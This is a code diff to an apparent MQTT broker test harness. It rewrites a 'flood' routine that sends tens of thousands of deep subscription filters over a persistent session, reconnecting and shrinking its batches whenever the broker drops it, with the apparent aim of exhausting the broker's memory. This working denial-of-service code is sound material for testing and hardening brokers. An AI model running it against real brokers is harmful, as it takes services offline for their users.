@@ -19,6 +19,7 @@ _CONNECT, _SUBSCRIBE, _SUBACK = 0x10, 0x82, 9
 _LEVELS = 190
 # More than a broker with a limit of 2 GiB grants; after these they come again.
 _MOST_FILTERS = 60_000
+_LEAST_EACH = 25
 
 
 class Access(Protocol):
@@ -71,31 +72,15 @@ class Subscriber:
 
     def granted(self, *filters: str) -> list[bool]:
         """Whether each of these filters was granted."""
-        return self._asked(_subscribe(next(self._numbers), filters))
+        return self.asked(_subscribe(next(self._numbers), filters))
 
-    def _asked(self, packet: bytes) -> list[bool]:
+    def asked(self, packet: bytes) -> list[bool]:
+        """Send a packet that was made before, and read its answer."""
         self._socket.sendall(packet)
         while True:
             kind, rest = self._read_packet()
             if kind == _SUBACK:
                 return [code < 0x80 for code in rest[2:]]
-
-    def flood(self, seconds: float, each: int = 20) -> tuple[int, int]:
-        """Subscribe for so long, to so many in a packet; how many were answered, how many granted.
-
-        It ends if the broker does.
-        """
-        filters = deep_filters()
-        # Made before: who attacks is not to take the processor from those who are attacked.
-        packets = [_subscribe(i, tuple(itertools.islice(filters, each))) for i in range(1, 1 + _MOST_FILTERS // each)]
-        give_up_at, n_sent, n_granted = time.monotonic() + seconds, 0, 0
-        with contextlib.suppress(OSError):
-            for packet in itertools.cycle(packets):
-                if time.monotonic() > give_up_at:
-                    break
-                granted = self._asked(packet)
-                n_sent, n_granted = n_sent + len(granted), n_granted + sum(granted)
-        return n_sent, n_granted
 
     def wait_ended(self, within_s: float) -> None:
         """Return once the broker has ended the connection; TimeoutError after so many seconds."""
@@ -119,6 +104,36 @@ class Subscriber:
                 raise ConnectionResetError("the broker has ended the connection")
             content += part
         return content
+
+
+def flood(access: Access, seconds: float, each: int = 1000) -> tuple[int, int]:
+    """Subscribe for so long, in a session that is kept; how many filters were answered, and how many granted.
+
+    Where the broker ends the connection, connect again with half as many in each packet. It ends if the broker does.
+    """
+    # Made before: who attacks is not to take the processor from those who are attacked.
+    filters = list(itertools.islice(deep_filters(), _MOST_FILTERS))
+    packets = _packets(filters, each)
+    give_up_at, n_sent, n_granted = time.monotonic() + seconds, 0, 0
+    while time.monotonic() < give_up_at:
+        try:
+            with Subscriber(access, clean_session=False) as subscriber:
+                for packet in itertools.cycle(packets):
+                    if time.monotonic() > give_up_at:
+                        break
+                    granted = subscriber.asked(packet)
+                    n_sent, n_granted = n_sent + len(granted), n_granted + sum(granted)
+        except ConnectionRefusedError:
+            break
+        except OSError:
+            if each > _LEAST_EACH:
+                each = max(_LEAST_EACH, each // 2)
+                packets = _packets(filters, each)
+    return n_sent, n_granted
+
+
+def _packets(filters: list[str], each: int) -> list[bytes]:
+    return [_subscribe(1, tuple(filters[i : i + each])) for i in range(0, len(filters), each)]
 
 
 def _string(text: str) -> bytes:
